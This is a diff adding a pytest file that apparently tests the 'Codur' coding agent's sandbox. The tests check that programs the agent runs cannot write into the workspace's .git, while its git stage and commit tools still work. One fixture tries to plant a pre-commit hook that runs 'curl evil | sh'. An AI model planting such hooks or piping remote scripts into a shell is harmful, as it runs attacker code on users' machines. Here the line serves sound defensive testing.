@@ -1,0 +1,68 @@
+"""The workspace's .git is read-only for the programs Codur runs (sandbox.protect_git);
+git's own stage and commit tools still record."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+from helpers import run_cli, scripted_profile
+
+from codur.config import load_config
+from codur.events import EventBus
+from codur.sandbox import readonly
+from codur.sandbox.confine import landlock_unavailable
+from codur.session import Session
+from codur.tools.registry import invoke
+from codur.workspace import Workspace
+
+NO_LANDLOCK = landlock_unavailable()
+NO_READ_ONLY = NO_LANDLOCK or readonly.unavailable()
+pytestmark = pytest.mark.skipif(NO_READ_ONLY is not None, reason=f"read-only: {NO_READ_ONLY}")
+
+HOOK = (
+    "try:\n"
+    "    open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
+    "except OSError as exc:\n"
+    "    print(type(exc).__name__)\n"
+    "print(10)\n"
+)
+
+
+def repo(root: Path) -> Path:
+    root.mkdir()
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    (root / ".git" / "hooks").mkdir(exist_ok=True)
+    return root
+
+
+@pytest.mark.parametrize("protect", [True, False])
+def test_a_checked_program_cannot_write_the_workspace_git(tmp_path: Path, protect: bool) -> None:
+    work = repo(tmp_path / "work")
+    (work / "main.py").write_text(HOOK)
+    (work / "expected.txt").write_text("10\n")
+    flags = [*scripted_profile(tmp_path, []), "-o", f"sandbox.protect_git={str(protect).lower()}"]
+    result = run_cli([*flags, "--no-model", "fix @main.py", "-v"], cwd=work)
+    planted = (work / ".git/hooks/pre-commit").exists()
+    assert planted is not protect, result.stdout + result.stderr
+    assert ("not .git)" in result.stdout) is protect, result.stdout
+
+
+def test_git_tools_still_stage_and_commit(tmp_path: Path) -> None:
+    work = repo(tmp_path / "work")
+    (work / "a.py").write_text("x = 1\n")
+    config = load_config(work, overrides=["approval.mode=full-auto"], environ={}).config
+    session = Session(config, Workspace(work), EventBus())
+    assert session.sandbox.read_only == (work.resolve() / ".git",)
+    ctx = session.tool_context()
+    subprocess.run(["git", "-C", str(work), "config", "user.email", "a@b.c"], check=True)
+    subprocess.run(["git", "-C", str(work), "config", "user.name", "A"], check=True)
+    staged = invoke("git_stage_files", {"paths": ["a.py"]}, ctx)
+    assert staged.ok and "Staged: a.py" in staged.output, staged.output
+    committed = invoke("git_commit", {"message": "first"}, ctx)
+    assert committed.ok and "Committed: " in committed.output, committed.output
+    status = invoke("git_status", {}, ctx)
+    assert status.ok and "a.py" not in status.output, status.output
+    log = subprocess.run(["git", "-C", str(work), "log", "--format=%s"], capture_output=True)
+    assert log.stdout.decode().split() == ["first"]
